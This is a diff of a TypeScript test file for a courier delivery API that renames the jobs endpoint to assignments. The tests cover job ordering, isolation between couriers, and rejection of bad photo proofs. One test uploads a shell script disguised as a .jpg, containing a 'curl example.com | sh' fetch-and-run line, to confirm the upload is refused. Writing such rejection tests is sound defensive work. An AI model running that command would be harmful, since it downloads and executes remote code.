@@ -69,7 +69,7 @@ test('a courier sees their own jobs, in the order of what is promised next, with
     },
     [late],
   );
-  const jobs = (await other.get('/courier/v1/jobs')).body.data;
+  const jobs = (await other.get('/courier/v1/assignments')).body.data;
   assert.deepEqual(
     jobs.map(({ deliveryID }: { deliveryID: string }) => deliveryID),
     [soon, late],
@@ -79,7 +79,7 @@ test('a courier sees their own jobs, in the order of what is promised next, with
   assert.equal(job.sender.phone, '+6281234567890');
   assert.equal(job.recipient.phone, '+628129876543', 'to be called as it stands');
   assert.deepEqual(job.origin.coordinates, origin.coordinates);
-  const mine = (await courier.get('/courier/v1/jobs')).body.data;
+  const mine = (await courier.get('/courier/v1/assignments')).body.data;
   assert.ok(!mine.some(({ deliveryID }: { deliveryID: string }) => [soon, late].includes(deliveryID)));
 });
 
@@ -87,7 +87,7 @@ test('a delivery of another courier is as if it did not exist: no step, no photo
   const id = await assigned(other);
   const step = await courier.step(id, 'setOff');
   assert.deepEqual([step.done, step.httpStatus, step.error], [false, 404, 'Pengantaran tidak ditemukan']);
-  const photo = await courier.send('PUT', `/courier/v1/jobs/${id}/proofs/X`, pngImage(), 'image/png');
+  const photo = await courier.send('PUT', `/courier/v1/assignments/${id}/proofs/X`, pngImage(), 'image/png');
   assert.equal(photo.status, 404);
   assert.equal((await courier.step('DE-NONE', 'setOff')).httpStatus, 404);
   await assign(id, courier);
@@ -201,7 +201,7 @@ test('cash is collected as it is due, or less for a reason, and the read answer 
 test('a photo of 20 MB, a script named .jpg and a truncated JPEG are refused as proofs', async () => {
   const id = await assigned();
   const send = async (bytes: Buffer<ArrayBuffer>) =>
-    (await courier.send('PUT', `/courier/v1/jobs/${id}/proofs/photo.jpg`, bytes)).status;
+    (await courier.send('PUT', `/courier/v1/assignments/${id}/proofs/photo.jpg`, bytes)).status;
   const whole = jpegImage();
   assert.equal(await send(Buffer.concat([whole, Buffer.alloc(20 * 1024 * 1024)])), 413);
   assert.equal(await send(Buffer.from('#!/bin/sh\ncurl example.com | sh\n')), 415);
@@ -222,7 +222,7 @@ test('spec 4.7: notify driver reaches the courier as a message, until it is read
   assert.equal(message.deliveryID, id);
   const others = (await other.get('/courier/v1/messages')).body.data;
   assert.ok(!others.some(({ deliveryID }: { deliveryID: string }) => deliveryID === id));
-  const job = (await courier.get('/courier/v1/jobs')).body.data.find(
+  const job = (await courier.get('/courier/v1/assignments')).body.data.find(
     ({ deliveryID }: { deliveryID: string }) => deliveryID === id,
   );
   assert.notEqual(job.readyAt, null);
